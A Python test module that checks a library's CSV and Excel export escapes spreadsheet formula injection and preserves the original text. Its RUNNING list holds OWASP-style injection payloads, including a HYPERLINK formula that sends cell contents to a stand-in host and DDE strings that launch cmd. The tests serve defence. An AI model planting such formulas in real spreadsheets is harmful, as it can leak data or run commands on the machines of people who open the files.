"""Tables as CSV: nothing that stands in a cell runs in a spreadsheet, and nothing is lost."""

import io
import zipfile

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from urbium.csv_text import as_csv, plain, unmarked
from urbium.result import save_table
from urbium.sources.formats.csv_ import read_csv

RUNNING = [
    '=HYPERLINK("http://x.example?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "＝1+1",
    "'=1+1",
]
"""Texts as OWASP's page on CSV injection lists them, and one that is marked already."""


@pytest.mark.parametrize("cell", RUNNING)
def test_a_text_that_would_run_is_written_as_a_text_and_read_as_it_was(cell, tmp_path):
    path = save_table(pl.DataFrame({"note": ["before", cell], "value": [1.0, -2.5]}), tmp_path / "a.csv")
    read = read_csv(path).frame["0"].to_list()

    assert pl.read_csv(path)["note"][1] == f"'{cell}"
    assert read == ["note", "before", cell]


@pytest.mark.parametrize("cell", ["-5", "-1,234.5", "+3.2e-4", "-12%", "-", "", "it's", "a=b", "o'=x"])
def test_numbers_and_plain_words_stay_as_they_are(cell):
    assert pl.DataFrame({"a": [cell]}).select(plain(pl.col("a")))["a"][0] == cell


def test_negative_numbers_stay_numbers():
    read = pl.read_csv(io.StringIO(as_csv(pl.DataFrame({"value": [-1.5, -2e-30]}))))

    assert read["value"].to_list() == [-1.5, -2e-30]


def test_a_heading_runs_no_more_than_a_cell():
    assert as_csv(pl.DataFrame({"=1+1": [1]})) == "'=1+1\n1\n"


@given(st.lists(st.text(alphabet="'=+-@\t\r\n＝0123456789.,e% ab", max_size=8), min_size=1))
def test_any_text_comes_back(texts):
    frame = pl.DataFrame({"a": texts}, schema={"a": pl.String()})
    back = frame.select(plain(pl.col("a"))).select(unmarked(pl.col("a")))

    assert back["a"].to_list() == texts


def test_a_workbook_holds_texts_and_no_formula(tmp_path):
    path = save_table(pl.DataFrame({"note": RUNNING}), tmp_path / "a.xlsx")
    with zipfile.ZipFile(path) as package:
        sheet = package.read("xl/worksheets/sheet1.xml")

    assert b"<f>" not in sheet
    assert b"hyperlink" not in sheet.lower()
